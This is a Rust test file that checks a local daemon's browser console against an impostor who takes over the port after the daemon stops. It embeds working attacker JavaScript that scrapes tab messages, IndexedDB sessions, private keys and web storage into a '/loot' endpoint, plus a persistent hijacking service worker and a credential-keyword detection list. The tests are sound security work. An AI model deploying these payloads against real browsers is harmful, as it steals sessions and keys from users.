//! Another user of the machine takes the port of a dead daemon.

use std::io::{Read as _, Write as _};
use std::net::{TcpListener, TcpStream};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::thread::JoinHandle;
use std::time::Duration;

use serde_json::Value;

use crate::world::{World, from_file, place, sample};

/// The page that the taker serves to whoever opens the console: it asks every tab, looks into every storage
/// and tries to copy the key.
const PAGE: &str = r#"<!doctype html><title>od</title><script>
const tell = (what) => fetch('/loot', { method: 'POST', body: JSON.stringify(what) });
const tabs = new BroadcastChannel('od.session');
tabs.onmessage = (message) => tell({ message: message.data });
for (const ask of [{ ask: true }, { signedIn: true }, {}]) tabs.postMessage(ask);
const opening = indexedDB.open('od', 1);
opening.onsuccess = () => {
  const all = opening.result.transaction('sessions').objectStore('sessions').getAll();
  all.onsuccess = async () => {
    for (const kept of all.result) {
      const copied = await crypto.subtle.exportKey('jwk', kept.keys.privateKey).catch((error) => String(error));
      await tell({ id: kept.id, copied });
    }
    await tell({ local: { ...localStorage }, session: { ...sessionStorage }, href: location.href });
    document.title = 'looted';
  };
};
</script>"#;

/// A page of the taker that leaves a service worker behind, which answers for the console from then on.
const STAYING_PAGE: &str = r"<!doctype html><title>od</title><script>
navigator.serviceWorker.register('/deep/worker.js', { scope: '/' });
navigator.serviceWorker.ready.then(() => { document.title = 'stays'; });
</script>";
const STAYING_WORKER: &str = r"
addEventListener('install', () => skipWaiting());
addEventListener('activate', (event) => event.waitUntil(clients.claim()));
addEventListener('fetch', (event) => {
  const page = '<!doctype html><title>taken</title>';
  const answer = () => new Response(page, { headers: { 'content-type': 'text/html' } });
  if (event.request.mode === 'navigate') event.respondWith(answer());
});";

/// A process that listens at a port, answers everything, and keeps what it was sent.
struct Impostor {
    received: Arc<Mutex<String>>,
    ended: Arc<AtomicBool>,
    address: String,
    listening: JoinHandle<()>,
}

impl Impostor {
    fn take(address: &str) -> Self {
        let listener = TcpListener::bind(address).unwrap();
        let (received, ended) = (Arc::<Mutex<String>>::default(), Arc::<AtomicBool>::default());
        let (log, over) = (Arc::clone(&received), Arc::clone(&ended));
        let listening = std::thread::spawn(move || {
            for stream in listener.incoming() {
                if over.load(Ordering::SeqCst) {
                    return;
                }
                let log = Arc::clone(&log);
                std::thread::spawn(move || serve(stream.unwrap(), &log));
            }
        });
        Self { received, ended, address: address.to_owned(), listening }
    }

    fn received(&self) -> String {
        self.received.lock().unwrap().clone()
    }

    /// Waits until it was asked this often for something.
    async fn was_asked(&self, what: &str, times: usize) {
        let enough = async {
            while self.received().matches(what).count() < times {
                tokio::time::sleep(Duration::from_millis(20)).await;
            }
        };
        let waited = tokio::time::timeout(Duration::from_secs(60), enough).await;
        assert!(waited.is_ok(), "{what} not {times} times in: {}", self.received());
    }

    /// Gives the port back; returns everything that it ever received.
    fn leave(self) -> String {
        self.ended.store(true, Ordering::SeqCst);
        drop(TcpStream::connect(&self.address));
        self.listening.join().unwrap();
        self.received.lock().unwrap().clone()
    }
}

/// Answers one request as well as somebody can who is not the daemon.
fn serve(mut stream: TcpStream, log: &Mutex<String>) {
    let mut request = Vec::new();
    let mut piece = [0; 8192];
    let text = loop {
        let Ok(count) = stream.read(&mut piece) else { return };
        request.extend_from_slice(&piece[..count]);
        let text = String::from_utf8_lossy(&request).into_owned();
        if let Some((head, body)) = text.split_once("\r\n\r\n") {
            let length = head
                .lines()
                .find_map(|line| line.to_lowercase().strip_prefix("content-length: ")?.parse().ok())
                .unwrap_or(0);
            if body.len() >= length || count == 0 {
                break text;
            }
        }
        if count == 0 {
            return;
        }
    };
    log.lock().unwrap().push_str(&format!("{text}\n----\n"));
    let (kind, body) = if text.starts_with("GET / ") {
        ("text/html", PAGE.to_owned())
    } else if text.starts_with("GET /stay ") {
        ("text/html", STAYING_PAGE.to_owned())
    } else if text.starts_with("GET /deep/worker.js ") {
        ("text/javascript\r\nService-Worker-Allowed: /", STAYING_WORKER.to_owned())
    } else if text.contains("/api/session/challenge") {
        // It has a key of its own, and signs with nothing.
        let (key, signature) = (format!("B{}", "A".repeat(86)), "A".repeat(86));
        let challenge = "0".repeat(32);
        let expires = "2099-01-01T00:00:00.000Z";
        (
            "application/json",
            format!(
                r#"{{"challenge":"{challenge}","daemonKey":"{key}","signature":"{signature}","expiresAt":"{expires}"}}"#
            ),
        )
    } else {
        ("application/json", "{}".to_owned())
    };
    let _ = write!(
        stream,
        "HTTP/1.1 200 OK\r\nContent-Type: {kind}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
        body.len()
    );
}

/// Fails if anything that was received opens a door: a bearer, a ticket, a code, a signature.
fn assert_no_credential(received: &str) {
    for word in
        ["authorization", "odt.v1", "bearer ", "\"signature\"", "\"code\"", "\"token\"", "\"d\":"]
    {
        assert!(!received.to_lowercase().contains(word), "{word} reached the impostor: {received}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn whoever_takes_the_dead_daemons_port_gets_nothing_and_the_tabs_go_on_afterwards() {
    let mut world = World::start().await;
    let project = world.project("web", &[("fleet.json", sample(3))]).await;
    let id = world.artifact(&project, from_file("Fleet", "fleet.json", &sample(3))).await;
    let data = world.console(&place(&project, &id, "preview")).await;
    data.shows_preview().await;
    data.press("3").await;
    data.sees("a-2").await;
    let designs = world.console("").await;
    designs.until("document.querySelector('.link.live')").await;
    let place = |url: &str| url.strip_prefix("http://").unwrap().to_owned();
    let (address, previews) = (place(world.daemon().url()), place(world.daemon().preview_url()));

    world.stop_daemon().await;
    let (impostor, framed) = (Impostor::take(&address), Impostor::take(&previews));
    for tab in [&data, &designs] {
        tab.sees("Another program answers").await;
    }
    // The person goes on working: keys, views, a refresh.
    data.press("r").await;
    data.press("1").await;
    data.sees("The daemon does not answer").await;
    designs.run("void dispatchEvent(new Event('focus'))").await;
    impostor.was_asked("/api/session/challenge", 6).await;
    // And opens the console anew, from the impostor.
    let fooled = world.browser.bare_tab().await;
    fooled.follow(&format!("http://{address}/")).await;
    fooled.until("document.title === 'looted'").await;
    impostor.was_asked("/api/session/challenge", 8).await;
    fooled.close().await;
    let received = impostor.leave();
    assert_no_credential(&received);
    let asked = framed.leave();
    assert!(!asked.contains("/preview/"), "a ticket reached the impostor: {asked}");
    assert!(received.contains("\"copied\":\"InvalidAccessError"), "the key was there: {received}");

    world.start_daemon().await;
    for tab in [&data, &designs] {
        tab.until("document.querySelector('.link.live') && !document.querySelector('.offline')")
            .await;
    }
    data.press("3").await;
    data.sees("a-2").await;
    world.end().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_worker_that_the_taker_left_in_the_browser_is_gone_after_one_visit_to_the_daemon() {
    let mut world = World::start().await;
    let url = world.daemon().url().to_owned();
    world.stop_daemon().await;
    let impostor = Impostor::take(url.strip_prefix("http://").unwrap());
    let tab = world.browser.bare_tab().await;
    tab.lets_workers_start().await;
    tab.follow(&format!("{url}/stay")).await;
    tab.until("document.title === 'stays'").await;
    impostor.leave();
    // The control: nobody listens, and still the taker's page comes.
    tab.follow(&format!("{url}/")).await;
    tab.until("document.title === 'taken'").await;

    world.start_daemon().await;
    tab.follow(&format!("{url}/#/designs")).await;
    tab.sees("Open the console from your terminal").await;
    tab.run("void navigator.serviceWorker.getRegistrations().then((all) => { window.workers = all.length; })")
        .await;
    tab.until("window.workers === 0").await;
    world.end().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_session_survives_reload_new_tabs_and_a_restart_without_a_credential_in_storage() {
    let mut world = World::start().await;
    let project = world.project("web", &[("fleet.json", sample(3))]).await;
    let id = world.artifact(&project, from_file("Fleet", "fleet.json", &sample(3))).await;
    let tab = world.console(&place(&project, &id, "data")).await;
    tab.sees("a-2").await;
    tab.reload().await;
    tab.sees("a-2").await;
    world.stop_daemon().await;
    world.start_daemon().await;
    // The first tab is back before days go by: a challenge that ends while it is being answered is
    // refused, and the browser's session with it.
    tab.until("document.querySelector('.link.live')").await;
    let link = format!("{}/{}", world.daemon().url(), place(&project, &id, "data"));
    let later = world.browser.tab().await;
    // Days later, from the link that an agent printed.
    world.clock.advance(6 * 24);
    later.follow(&link).await;
    later.sees("a-2").await;
    let stored = later
        .run("JSON.stringify([{ ...localStorage }, { ...sessionStorage }, location.href, document.cookie])")
        .await;
    assert!(!stored.to_string().contains("odt"), "{stored}");
    world.end().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn an_unknown_browser_says_what_to_run_and_goes_on_by_itself_until_it_is_revoked() {
    let world = World::start().await;
    let project = world.project("web", &[("fleet.json", sample(3))]).await;
    let id = world.artifact(&project, from_file("Fleet", "fleet.json", &sample(3))).await;
    let tab = world.browser.tab().await;
    tab.follow(&format!("{}/{}", world.daemon().url(), place(&project, &id, "data"))).await;
    tab.sees("Open the console from your terminal").await;
    tab.sees("od open").await;
    let opened = world.console("").await;
    tab.sees("a-2").await;
    assert_eq!(tab.run("location.hash").await, Value::from(place(&project, &id, "data")));

    let app = world.daemon().app();
    let person = od_app::Caller::Person;
    let sessions = od_app::sessions::list(app, &person).unwrap();
    assert_eq!(sessions.len(), 1, "one browser, one session: {sessions:?}");
    od_app::sessions::revoke(app, &person, &od_app::sessions::Revoke::All, od_app::Mode::Commit)
        .unwrap();
    tab.press("r").await;
    for tab in [&tab, &opened] {
        tab.run("void dispatchEvent(new Event('focus'))").await;
        tab.sees("Open the console from your terminal").await;
    }
    world.end().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_preview_link_that_has_ended_is_a_page_for_people() {
    let world = World::start().await;
    let project = world.project("web", &[("fleet.json", sample(3))]).await;
    let id = world.artifact(&project, from_file("Fleet", "fleet.json", &sample(3))).await;
    let console = world.console(&place(&project, &id, "preview")).await;
    console.shows_preview().await;
    let url = console.run("document.querySelector('.preview-frame').src").await;
    let url = url.as_str().unwrap();
    world.clock.advance(1);
    let tab = world.browser.bare_tab().await;
    tab.open(url).await;
    tab.sees("This link has ended").await;
    tab.sees("od open").await;
    let missing = format!("{}/preview", world.daemon().preview_url());
    tab.open(&missing).await;
    tab.sees("This page is not here any more").await;
    world.end().await;
}
